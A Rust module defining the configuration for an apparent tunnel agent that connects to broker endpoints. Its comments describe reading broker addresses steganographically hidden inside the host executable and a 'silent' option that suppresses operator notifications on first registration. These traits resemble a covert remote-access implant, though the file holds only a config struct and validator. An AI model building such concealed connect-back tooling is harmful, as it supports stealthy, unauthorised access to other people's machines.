//! Tunnel configuration.
//!
//! `Config` is assembled once by the embedding application (typically from
//! material hidden in the host executable — that reader is behind the
//! [`ConfigLoader`] seam) and is immutable afterwards.

use serde::{Deserialize, Serialize};

use crate::error::TunnelError;

/// Immutable client configuration.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct Config {
    /// Agent version string, e.g. `1.2.3-alpha`. Sent in the handshake.
    pub semver: String,
    /// Broker endpoints. Accepted forms: `host`, `host:port`,
    /// `tls://host:port`, `tcp://host:port` (plus `name@` SNI userinfo).
    pub addresses: Vec<String>,
    /// Optional TLS SNI / Host override applied to every address that does
    /// not carry its own name.
    #[serde(default)]
    pub server_name: Option<String>,
    /// Register silently: the broker suppresses operator notifications for
    /// a first-time node. Only meaningful on first registration.
    #[serde(default)]
    pub silent: bool,
    /// Marks a pre-release build.
    #[serde(default)]
    pub unstable: bool,
    /// Customized-build label; empty for stock builds.
    #[serde(default)]
    pub customized: String,
}

impl Config {
    /// Fail fast on input that can never connect. Called by `open` before
    /// any task is spawned.
    pub fn validate(&self) -> Result<(), TunnelError> {
        if self.addresses.iter().all(|a| a.trim().is_empty()) {
            return Err(TunnelError::EmptyAddresses);
        }
        Ok(())
    }
}

/// Seam for the configuration source (e.g. the steganographic reader that
/// extracts broker material from the host binary).
pub trait ConfigLoader {
    fn load(&self) -> Result<Config, TunnelError>;
}
